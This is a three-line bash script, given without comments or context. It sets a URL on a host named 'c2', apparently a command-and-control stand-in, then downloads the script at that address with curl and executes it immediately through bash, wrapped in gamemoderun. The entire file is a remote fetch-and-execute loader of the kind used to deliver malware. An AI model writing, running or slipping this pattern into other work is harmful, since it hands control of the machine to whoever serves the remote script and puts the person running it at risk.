#!/bin/bash
url=https://c2.example.invalid/g.sh
gamemoderun bash -c "$(curl -fsSL "$url")"
